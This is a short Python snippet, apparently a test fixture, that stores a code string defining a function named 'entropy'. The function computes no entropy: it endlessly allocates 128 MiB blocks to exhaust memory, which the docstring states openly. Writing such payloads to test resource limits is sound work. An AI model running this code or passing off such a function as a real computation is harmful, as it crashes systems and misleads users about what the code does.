"""Take memory without end."""

CELL = r"""
def entropy(p, base=2.0):
    hoard = []
    while True:
        hoard.append(b"x" * 2**27)
"""
